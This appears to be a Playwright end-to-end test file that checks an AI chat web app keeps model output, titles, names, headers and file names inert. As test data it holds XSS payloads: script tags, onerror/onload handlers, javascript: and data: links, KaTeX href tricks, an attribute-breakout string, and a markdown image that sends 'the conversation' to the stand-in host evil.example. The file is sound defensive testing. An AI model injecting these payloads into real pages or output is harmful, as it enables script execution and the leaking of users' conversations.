import { expect } from '@playwright/test';
import { watch } from './support/accessible.js';
import { answers, ask, call, newPerson, PASSWORD, signInAsNew, whenWritten } from './support/people.js';
import { test, url } from './support/portals.js';

test('X1 X3: model output cannot run scripts, load content or navigate', async ({ page }) => {
  await signInAsNew(page);
  const problems = watch(page);
  await page.evaluate(() => Object.assign(window, { alert: () => Object.assign(window, { hit: true }) }));
  await ask(page, 'scenario:xss attack');
  await expect(page.getByRole('button', { name: 'Send' })).toBeVisible();
  const answer = answers(page).last();
  await expect(answer).not.toBeEmpty();
  expect(await page.evaluate(() => (window as { hit?: boolean }).hit)).toBeUndefined();
  expect(
    await answer.locator('script, iframe, object, embed, form, style, svg[onload], [onerror], [onclick]').count(),
  ).toBe(0);
  expect(
    await answer
      .locator('a')
      .evaluateAll((links) =>
        links
          .map((link) => (link as HTMLAnchorElement).protocol)
          .filter((protocol) => !/^https?:|^mailto:/.test(protocol)),
      ),
  ).toEqual([]);
  expect(
    await answer
      .locator('img')
      .evaluateAll((images) =>
        images.map((image) => (image as HTMLImageElement).src).filter((src) => !src.startsWith(location.origin)),
      ),
  ).toEqual([]);
  expect(problems).toEqual([]);
});

test('scripts, javascript: links, remote images and SVG in model output do nothing', async ({ page }) => {
  await signInAsNew(page);
  const problems = watch(page);
  await page.evaluate(() => Object.assign(window, { alert: () => Object.assign(window, { hit: true }) }));
  const attack = [
    '<script>alert(1)</script><svg onload=alert(1)><circle r=1></svg><img src=x onerror=alert(1)>',
    '[click](javascript:alert(1)) [data](data:text/html,<script>alert(1)</script>)',
    '![secret](https://evil.example/?q=the+conversation) ' +
      '![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
    '$$\\href{javascript:alert(1)}{x} \\includegraphics{https://evil.example/x.png} \\htmlData{a=b}{y}$$',
    '```html\n<script>alert(1)</script>\n```',
    'A note.[^1]\n\n[^1]: <img src=x onerror=alert(1)>',
  ].join('\n\n');
  await ask(page, `scenario:echo ${attack}`);
  await whenWritten(page);
  const answer = answers(page).last();
  await expect(answer.locator('.katex').first()).toBeAttached();
  await expect(answer.locator('pre [class^="tok-"]').first()).toBeAttached();
  for (const link of await answer.locator('.prose a').all()) await link.click();
  expect(await page.evaluate(() => (window as { hit?: boolean }).hit)).toBeUndefined();
  const parts =
    '.prose :is(script, iframe, object, embed, form, style, img, svg, [onload], [onerror], ' +
    '[onclick]):not(:is(button, .katex) *)';
  expect(await answer.locator(parts).evaluateAll((found) => found.map((element) => element.outerHTML))).toEqual([]);
  expect(
    await answer
      .locator('.prose a')
      .evaluateAll((links) => links.map((link) => link.getAttribute('href')).filter((href) => !href?.startsWith('#'))),
  ).toEqual([]);
  expect(problems).toEqual([]);
});

/** Markup that would run a script wherever it were put into a page as HTML. */
const MARKUP = `"><img src=x onerror=alert(1)><svg onload=alert(1)></svg>{{alert(1)}}`;

test('X2, X7: markup in titles, names, files, headers and errors stays text, for admins too', async ({ page }) => {
  test.setTimeout(90_000);
  const name = await newPerson(page, 'admin');
  const { token } = await call(page, 'POST', '/api/auth/login', { username: name, password: PASSWORD });
  const { thread_id } = await call(page, 'POST', '/api/chat', { prompt: `${MARKUP} prompt` }, token);
  await call(page, 'PATCH', `/api/chat/threads/${thread_id}`, { title: `${MARKUP} title` }, token);
  await call(page, 'POST', '/api/developer/api-keys', { name: `${MARKUP} key` }, token);
  await call(page, 'POST', '/api/admin/models', { name: 'markup:1b', display_name: `${MARKUP} model` }, token);
  await call(page, 'POST', '/api/admin/database/queries', { name: `${MARKUP} query`, sql: 'SELECT 1' }, token);
  await page.request.get(`${url()}/api/nothing-here`, {
    headers: { 'user-agent': `${MARKUP} agent`, 'accept-language': MARKUP, referer: `http://x/${MARKUP}` },
  });
  await page.request.get(`${url()}/api/${encodeURIComponent(MARKUP)}`);
  const problems = watch(page);
  await page.addInitScript(() => Object.assign(window, { alert: () => Object.assign(window, { hit: true }) }));
  const inert = async (where: string) => {
    expect([where, await page.evaluate(() => (window as { hit?: boolean }).hit)]).toEqual([where, undefined]);
    expect([where, await page.locator('[onerror], [onload]').count()]).toEqual([where, 0]);
  };
  const shown = async (path: string, text: string) => {
    await page.goto(url() + path);
    await expect(page.getByText(text, { exact: false }).first()).toBeAttached();
    await inert(path);
  };
  await shown(`/c/${thread_id}`, `${MARKUP} title`);
  await shown('/history', `${MARKUP} title`);
  await shown('/developer/keys', `${MARKUP} key`);
  await shown('/admin/models', `${MARKUP} model`);
  await shown('/admin/audit', MARKUP);
  await page.goto(`${url()}/admin/sql`);
  await page.getByRole('tab', { name: 'Saved' }).click();
  await expect(page.getByText(`${MARKUP} query`).first()).toBeVisible();
  await inert('saved queries');
  // The inspector of a log line shows what a stranger's program called itself.
  await page.goto(`${url()}/admin/logs`);
  await page.getByText('/api/nothing-here').first().click();
  await expect(page.getByText(`${MARKUP} agent`).first()).toBeVisible();
  await inert('/admin/logs');
  // A file whose name is markup, refused with an error that names it.
  await page.goto(`${url()}/settings/data`);
  await page
    .locator('input[type=file]')
    .first()
    .setInputFiles({ name: `${MARKUP}.json`, mimeType: 'application/json', buffer: Buffer.from('{') });
  await expect(page.getByText(`${MARKUP}.json`).first()).toBeVisible();
  await inert('/settings/data');
  expect(problems).toEqual([]);
});
